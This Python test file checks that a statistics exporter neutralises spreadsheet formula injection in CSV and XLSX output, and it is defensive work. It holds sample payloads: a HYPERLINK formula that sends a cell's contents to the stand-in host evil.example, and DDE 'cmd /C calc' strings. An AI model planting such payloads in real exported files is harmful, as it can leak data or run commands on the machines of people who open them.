"""Formula injection: no text in a CSV or XLSX export is run as a formula by a spreadsheet.

An organisation's name is typed by an administrator (or by anyone who knows a link code); the
review stored `=HYPERLINK("http://evil.example/?leak="&D2, ...)` as a live formula. Read back
with openpyxl, no cell may be a formula, and no CSV cell may start with = + - @, tab or CR.
"""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator

import pytest
from openpyxl import load_workbook

from handlers.i18n import Renderer
from handlers.statistics.exports import Sheet, csv_chunks, xlsx_chunks
from handlers.statistics.table import Cell, StatsTable
from knowledge import KnowledgeBase, Locale
from storage.stats import Dimension, GroupStats

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&D2,"Click for details")'
DANGEROUS = {
    "equals": HYPERLINK,
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def table(kb: KnowledgeBase, locale: Locale) -> StatsTable:
    """Grouped by organisation, each organisation named with one dangerous text."""
    return StatsTable(
        Renderer(), kb, locale, [Dimension.ORGANISATION], organisation_names=DANGEROUS
    )


async def groups() -> AsyncIterator[GroupStats]:
    for code in DANGEROUS:
        yield GroupStats(key=(code,), suppressed=False, n=7, readiness=41.5)
    yield GroupStats(key=("-unnamed",), suppressed=True)


def extra_sheet() -> Sheet:
    rows: list[list[Cell]] = [[text, -1, 0.5] for text in DANGEROUS.values()]
    return Sheet("@=answers", ["=header", "-n", "share"], rows)


async def xlsx_bytes(kb: KnowledgeBase, locale: Locale) -> bytes:
    async def extra() -> list[Sheet]:
        return [extra_sheet()]

    chunks = xlsx_chunks(table(kb, locale), groups(), "=title", extra)
    return b"".join([chunk async for chunk in chunks])


@pytest.mark.parametrize("locale", ["fa", "en"])
async def test_no_xlsx_cell_is_a_formula_and_numbers_stay_numbers(
    shipped_kb: KnowledgeBase, locale: Locale
) -> None:
    workbook = load_workbook(io.BytesIO(await xlsx_bytes(shipped_kb, locale)))

    texts, numbers = [], []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), cell.value
                    texts.append(cell.value)
                elif cell.value is not None:
                    numbers.append(cell.value)
    # What was typed is still there to read, behind the apostrophe (XML reads CR as LF).
    for text in DANGEROUS.values():
        assert "'" + text.replace("\r", "\n") in texts
    assert {7, 41.5, -1, 0.5} <= set(numbers)


async def test_no_csv_cell_starts_like_a_formula(shipped_kb: KnowledgeBase) -> None:
    chunks = csv_chunks(table(shipped_kb, "en"), groups())
    text = b"".join([chunk async for chunk in chunks]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))

    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    first_cells = [row[0] for row in rows[1:]]
    assert first_cells == ["'" + text for text in DANGEROUS.values()] + ["'-unnamed"]
    # Figures are written as numbers, not as quoted text.
    assert rows[1][2:4] == ["7", "41.5"]
